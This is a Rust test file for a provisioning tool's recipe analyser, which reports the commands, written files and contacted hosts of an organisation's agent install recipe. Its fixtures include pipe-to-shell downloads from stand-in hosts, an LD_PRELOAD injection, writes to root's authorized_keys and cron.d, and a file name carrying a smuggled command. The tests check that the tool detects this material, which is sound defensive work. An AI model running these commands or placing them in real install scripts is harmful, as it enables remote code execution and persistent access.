//! A recipe of an organisation's is a program: an answer says what it runs, writes and contacts, and judges what it fetches.

use dynaboot_core::assess;
use serde_json::{Value, json};

use super::{acme, ask, builtin, cited, handbook, over_http, policy, severity};

fn agent(recipe: &Value) -> Value {
    json!({ "label": "Acme", "table": "mechanics", "packageStore": false, "settings": [], "source": cited(), "linux": recipe })
}

fn choices() -> Value {
    let mut choices = over_http();
    choices["agent"] = json!({ "id": "acme", "onImage": "absent" });
    choices["bundleStore"] = json!({ "url": "https://store.example.com/agent.tar.gz" });
    choices
}

#[test]
fn what_a_recipe_does_is_said_where_it_is_not_built_in() {
    let policy = policy(&acme(&json!({ "sources": handbook(), "agents": { "acme": agent(&json!({
        "present": ["/opt/acme/bin"], "bundle": "{bundleStore}", "arches": ["x86_64"],
        "install": ["sh", "-c", "curl https://evil.example/x | sh"],
        "environment": { "LD_PRELOAD": "/tmp/x.so" },
        "handover": [{ "path": "/root/.ssh/authorized_keys", "line": "ssh-ed25519 AAAA http://other.example:8080/k" }],
    })) } })));
    let recipe = ask(&policy, &choices()).recipe.unwrap();
    assert_eq!(recipe.agent, "acme");
    assert_eq!(recipe.runs, ["LD_PRELOAD=/tmp/x.so sh -c 'curl https://evil.example/x | sh'"]);
    assert_eq!(recipe.writes, ["/root/.ssh/authorized_keys"]);
    assert_eq!(recipe.hosts, ["evil.example", "other.example"]);
    assert_eq!(ask(&policy, &over_http()).recipe, None, "the generic agent is built in");
    assert_eq!(ask(&builtin(), &over_http()).recipe, None);
    let altered = super::policy(&acme(&json!({ "agents": { "generic": { "label": "Ours" } } })));
    assert_eq!(ask(&altered, &over_http()).recipe.map(|recipe| recipe.agent).as_deref(), Some("generic"));
}

#[test]
fn a_bundle_from_elsewhere_is_judged_like_a_store() {
    for (bundle, is_open) in [
        ("http://other.example/a.tar.gz", true),
        ("other.example/a.tar.gz", true),
        ("https://other.example/a.tar.gz", false),
    ] {
        let policy = policy(&acme(&json!({ "sources": handbook(), "agents": { "acme": agent(&json!({
            "present": ["/opt/acme/bin"], "bundle": bundle, "arches": ["x86_64"], "install": ["./install"],
        })) } })));
        let report = ask(&policy, &choices());
        assert_eq!(severity(&report, "http-store").is_some(), is_open, "{bundle}");
        assert_eq!(severity(&report, "http-bundle-has-a-checksum").is_some(), is_open, "{bundle}");
        assert_eq!(
            report.findings.iter().any(|finding| finding.message.contains("http://other.example/a.tar.gz")),
            is_open
        );
    }
}

/// What is hidden in a default is run as well, and a host needs no scheme to be asked.
#[test]
fn defaults_and_hosts_without_a_scheme_are_said_too() {
    let mut own = agent(&json!({
        "present": ["/opt/acme/bin"], "bundle": "other.example/a.tar.gz", "arches": ["x86_64"],
        "install": ["sh", "-c", "{how}"], "unpackTo": "{place}",
    }));
    own["settings"] = json!([
        { "name": "how", "label": "How", "ask": "How?", "form": "command", "default": "wget -qO- http://hidden.example/x | sh" },
        { "name": "place", "label": "Place", "ask": "Where?", "form": "path", "default": "/etc/cron.d/x" },
    ]);
    let policy = policy(&acme(&json!({ "sources": handbook(), "agents": { "acme": own } })));
    let mut choices = choices();
    let recipe = ask(&policy, &choices).recipe.unwrap();
    assert_eq!(recipe.runs, ["sh -c 'wget -qO- http://hidden.example/x | sh'"]);
    assert_eq!(recipe.hosts, ["other.example", "hidden.example"]);
    assert_eq!(recipe.writes, ["/etc/cron.d/x"]);
    // What the user typed may be a secret.
    choices["agent"]["settings"] = json!({ "how": "./install --token s3cret" });
    assert_eq!(ask(&policy, &choices).recipe.unwrap().runs, ["sh -c {how}"]);
}

/// What a setting makes of the URL is judged as the store's own URL is.
#[test]
fn a_filled_url_is_judged_like_a_store() {
    let mut own = agent(&json!({
        "present": ["/opt/acme/bin"], "bundle": "https://{mirror}/{file}", "arches": ["x86_64"], "install": ["./install"],
    }));
    own["settings"] = json!([
        { "name": "mirror", "label": "Mirror", "ask": "Which?", "form": "host" },
        { "name": "file", "label": "File", "ask": "Which?", "form": "command" },
    ]);
    let policy = policy(&acme(&json!({ "sources": handbook(), "agents": { "acme": own } })));
    let found = |mirror: &str, file: &str, rule: &str| {
        let mut choices = choices();
        choices["agent"]["settings"] = json!({ "mirror": mirror, "file": file });
        severity(&ask(&policy, &choices), rule).is_some()
    };
    assert!(!found("other.example", "a.tar.gz", "bundle-store-is-an-address"));
    assert!(found("other.example", "a b;touch /x", "bundle-store-is-an-address"));
    assert!(found("other.example", &"a".repeat(100_000), "bundle-store-is-an-address"));
    assert!(found("10.0.0.5", "a.tar.gz", "store-is-reached-from-the-cloud"));
    assert!(!found("other.example", "a.tar.gz", "store-is-reached-from-the-cloud"));
    assert!(found("other.example", "a.tar.gz?X-Amz-Signature=abc", "store-url-does-not-expire"));
    let mut broken = choices();
    broken["bundleStore"]["url"] = json!("ftp://store.example.com/a");
    broken["agent"]["settings"] = json!({ "mirror": "other.example", "file": "a.tar.gz" });
    assert!(severity(&ask(&policy, &broken), "bundle-store-is-an-address").is_some());
}

/// The store's user and password go to the store alone, on either family and with every downloader.
#[test]
fn credentials_stay_with_the_store() {
    for (system, bundle) in [("debian-12", "a.tar.gz"), ("windows-2022", "a.zip")] {
        for (bundle, goes_along) in
            [(format!("{{bundleStore}}/{bundle}"), true), (format!("https://other.example/{bundle}"), false)]
        {
            let (path, family) =
                if system == "debian-12" { ("/opt/acme/bin", "linux") } else { (r"C:\opt\acme", "windows") };
            let mut own = agent(&Value::Null);
            own.as_object_mut().unwrap().remove("linux");
            own[family] =
                json!({ "present": [path], "bundle": bundle, "arches": ["x86_64"], "install": ["./install"] });
            let policy = policy(&acme(&json!({ "sources": handbook(), "agents": { "acme": own } })));
            let mut choices = choices();
            choices["system"] = json!(system);
            choices["bundleStore"] =
                json!({ "url": "https://store.example.com/acme", "user": "me", "password": "s3cretword" });
            choices["answers"] = json!({ "userDataRuns": true, "certificatesInstalled": true });
            let answer = assess(&policy.read_choices(&choices).unwrap(), &policy);
            let script = answer.script.unwrap_or_else(|| panic!("{:?}", answer.report.findings)).text;
            for word in ["--netrc-optional", "\"Authorization\", \"Basic", "Net.CredentialCache", "|| home=/dev/null"] {
                let is_its = if word.starts_with("Net") { family == "windows" } else { family == "linux" };
                assert_eq!(script.contains(word), goes_along && is_its, "{system} {bundle}: {word}");
            }
        }
    }
}
